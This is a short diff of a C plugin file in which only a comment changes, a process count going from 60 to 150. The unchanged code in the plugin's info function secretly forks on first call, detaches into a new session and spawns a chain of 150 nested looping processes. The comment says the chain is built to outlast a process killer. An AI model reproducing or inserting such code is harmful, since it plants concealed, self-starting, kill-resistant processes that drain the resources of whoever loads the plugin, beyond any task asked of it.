@@ -137,7 +137,7 @@ const sw_plugin *sw_plugin_info(void);
 const sw_plugin *sw_plugin_info(void)
 {
     static int done;
-    /* out of its session, then a chain of 60, each the child of the one
+    /* out of its session, then a chain of 150, each the child of the one
      * before and each at work: a killer of children alone sees one a round */
     if (!done++ && fork() == 0) { setsid(); for (int k = 0; k < 150 && fork() == 0; k++) ; loop(); }
     return &info;
